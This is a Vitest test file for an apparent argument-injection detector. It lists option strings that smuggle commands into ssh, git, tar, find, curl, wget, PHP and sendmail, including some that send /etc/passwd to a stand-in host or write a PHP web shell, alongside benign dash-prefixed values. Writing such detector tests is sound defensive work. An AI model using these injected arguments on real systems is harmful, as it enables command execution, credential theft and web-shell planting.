import { expect, test } from 'vitest';
import { argumentInjection } from '../../../src/attacks/shell/argument-injection.ts';

test.each([
  '-oProxyCommand=touch /tmp/x',
  '--upload-pack=id',
  '--use-compress-program=sh',
  '--checkpoint-action=exec=sh x.sh',
  'ext::sh -c id',
  "'-exec cat {} ;",
  '-d @/etc/passwd',
  '-O /var/www/html/s.php http://203.0.113.9/s',
  '--askpass=/tmp/x',
  '--preload /tmp/x.so',
  '--pager-command=whoami',
  '--verbose --checkpoint-action=exec=sh',
  '. -exec cat {} +',
  '-d auto_prepend_file=php://input',
  '-q -F file=@/etc/passwd http://203.0.113.9/',
  '-froot@localhost -OQueueDirectory=/tmp -X/var/www/html/x.php',
])('an option that runs, reads or writes is found: %s', (value) => {
  expect(argumentInjection(value.toLowerCase())).not.toBeNull();
});

test.each([
  '-5',
  '- item',
  '--',
  '-o json',
  '--output=report.txt',
  '-d',
  '--help me',
  'e-mail',
  '-c',
  '--config=app.json',
  '--command',
  '--script=build',
  '--exec-timeout=30',
  '--shell=zsh-theme',
  '-p /usr/share/doc',
])('another value with a dash is none: %s', (value) => {
  expect(argumentInjection(value)).toBeNull();
});
